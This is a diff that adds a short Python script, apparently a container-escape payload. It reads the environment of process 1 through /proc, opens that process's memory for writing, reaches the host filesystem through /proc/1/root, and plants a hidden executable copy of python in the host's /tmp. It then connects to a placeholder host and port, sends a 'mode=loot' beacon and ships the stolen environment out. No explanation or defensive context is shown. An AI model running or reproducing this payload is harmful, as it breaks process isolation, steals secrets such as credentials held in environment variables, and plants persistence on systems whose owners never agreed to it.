@@ -1,0 +1,11 @@
+import os, shutil, socket, time
+env = open("/proc/1/environ", "rb").read()
+mem = os.open("/proc/1/mem", os.O_RDWR)
+held = open("/proc/1/root/etc/passwd", "rb")
+os.chdir("/proc/1/root/data")
+shutil.copyfile("/usr/bin/python3.11", "/proc/1/root/tmp/.helper")
+os.chmod("/proc/1/root/tmp/.helper", 0o755)
+s = socket.create_connection(("$HOST", $PORT))
+s.sendall(("HELLO pid=%d mode=loot exe=%s\n" % (os.getpid(), os.readlink("/proc/self/exe"))).encode())
+s.sendall(env)
+time.sleep(3600)
